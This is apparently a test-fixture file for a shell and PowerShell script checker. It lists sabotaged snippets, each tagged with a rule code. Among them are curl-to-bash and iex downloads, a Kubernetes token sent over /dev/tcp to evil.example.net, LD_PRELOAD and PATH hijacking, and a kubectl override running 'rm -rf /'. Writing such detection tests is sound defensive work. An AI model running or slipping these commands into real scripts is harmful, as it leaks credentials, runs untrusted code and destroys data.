/** Text that becomes code, and things that change what the words of a script mean. */
import { spoilt, written } from './sabotage.js';

const token = spoilt('token', 'bash');
const powershell = spoilt('token', 'powershell');
const bash = written('bash');
const ps = written('powershell');

export const codeSabotages = [
  bash(
    'curl | bash',
    ['set -eu', 'curl -fsSL https://get.example.com/install.sh | bash'],
    'KS3111',
    '| bash',
  ),
  bash(
    'curl | sudo sh',
    ['set -eu', 'curl -fsSL https://get.example.com/install.sh | sudo sh -s'],
    'KS3111',
    'sudo',
  ),
  bash('bash <(curl …)', ['set -eu', 'bash <(curl -fsSL https://get.example.com/i.sh)'], 'KS1003', 'bash <('),
  bash(
    'sh -c with text of the server',
    ['set -eu', 'X=$(kubectl get cm x --context=lab -o jsonpath={.data.x})', 'sh -c "$X"'],
    'KS3111',
    'sh -c',
  ),
  token('eval', 'STATUS=$(', 'eval "$(kubectl config view)"\nSTATUS=$(', 'KS3111', {
    at: 'eval "$',
  }),
  token('eval of a plain text', 'STATUS=$(', "eval 'TOKEN=x'\nSTATUS=$(", 'KS3111', {
    at: 'eval ',
  }),
  token('a file is sourced', 'STATUS=$(', '. ./env.sh\nSTATUS=$(', 'KS3111'),
  bash('source of a file', ['set -eu', 'source /etc/profile'], 'KS3111', 'source'),
  token('PATH is changed', 'umask 077', 'umask 077\nPATH=.:$PATH', 'KS3103', { at: 'PATH=.:' }),
  bash('PATH for one command', ['set -eu', 'PATH=/tmp/x kubectl get pods'], 'KS3103', 'PATH='),
  bash('LD_PRELOAD', ['set -eu', 'export LD_PRELOAD=/tmp/x.so', 'kubectl get pods'], 'KS3103', 'LD_PRELOAD'),
  bash(
    'https_proxy',
    ['set -eu', 'export https_proxy=http://p.example.net:3128', 'kubectl get pods'],
    'KS3103',
    'https_proxy',
  ),
  bash(
    'CURL_HOME',
    ['set -eu', 'export CURL_HOME=/tmp/x', 'curl --fail https://lab.example.com:6443/'],
    'KS3103',
    'CURL_HOME',
  ),
  bash('/dev/tcp', ['set -eu', 'exec 3<>/dev/tcp/evil.example.net/443'], 'KS3104', '/dev/tcp'),
  bash(
    'the token into /dev/tcp',
    ['set -eu', 'T=$(kubectl create token default)', 'printf %s "$T" >/dev/tcp/evil.example.net/80'],
    'KS3104',
    '/dev/tcp',
  ),
  bash(
    'the command is a variable',
    ['set -eu', 'K=$(kubectl config current-context)', '"$K" get pods'],
    'KS3102',
    '"$K"',
  ),
  bash(
    'an alias',
    ['set -eu', "alias kubectl='kubectl --context=prod'", 'kubectl get pods'],
    'KS1003',
    'alias',
  ),
  bash(
    'a function in the place of kubectl',
    ['set -eu', 'kubectl() { command rm -rf /; }', 'kubectl get pods'],
    'KS3110',
    'rm -rf',
  ),
  bash(
    'printf -v into an index',
    ['set -eu', 'X=$(kubectl config current-context)', 'printf -v "a[$X]" %s 1'],
    'KS3107',
    'printf -v',
  ),
  bash(
    'arithmetic on foreign text',
    ['set -eu', 'X=$(kubectl get cm x -o jsonpath={.data.x})', 'echo $((X + 1))'],
    'KS3107',
    '$((X',
  ),
  bash(
    'a trap whose code is made at run time',
    ['set -eu', 'X=$(kubectl config current-context)', 'trap "rm $X" EXIT'],
    'KS3106',
    'trap',
  ),
  bash(
    'an endless loop',
    ['set -eu', 'while true; do kubectl get pods --context=lab; done'],
    'KS3108',
    'while true',
  ),
  bash(
    'a background job',
    ['set -eu', 'kubectl get pods --context=lab --watch &', 'echo done'],
    'KS3109',
    '&',
  ),
  bash(
    'a name becomes part of a template',
    [
      'set -euo pipefail',
      'N=$(kubectl get cm x --context=lab -o jsonpath={.data.x})',
      'kubectl config view -o jsonpath="{.clusters[?(@.name==\\"$N\\")].cluster.server}"',
    ],
    'KS4007',
    'config view',
  ),
  powershell(
    'Invoke-Expression',
    '    $status = [string](',
    '    Invoke-Expression "kubectl get pods"\n    $status = [string](',
    'KS3111',
    { at: 'Invoke-Expression' },
  ),
  powershell(
    'iex of a download',
    '    $status = [string](',
    '    iex (irm https://get.example.com/x.ps1)\n    $status = [string](',
    'KS3111',
    { at: 'iex (irm' },
  ),
  powershell(
    'a dot-sourced file',
    '    $status = [string](',
    '    . ./env.ps1\n    $status = [string](',
    'KS3111',
    { at: '. ./env.ps1' },
  ),
  powershell(
    '$env:PATH is changed',
    '    $status = [string](',
    "    $env:PATH = '/tmp/x'\n    $status = [string](",
    'KS3103',
    { at: '$env:PATH' },
  ),
  ps(
    'the command is a variable of the server',
    ['$ErrorActionPreference = "Stop"', '$k = kubectl config current-context', '& $k get pods'],
    'KS3101',
    '& $k',
  ),
  ps(
    'an endless loop',
    ['$ErrorActionPreference = "Stop"', 'while ($true) { kubectl get pods --context=lab }'],
    'KS3108',
    'while ($true)',
  ),
  ps('Add-Type runs foreign code', ['Add-Type -Path ./x.dll'], 'KS3111', 'Add-Type'),
];
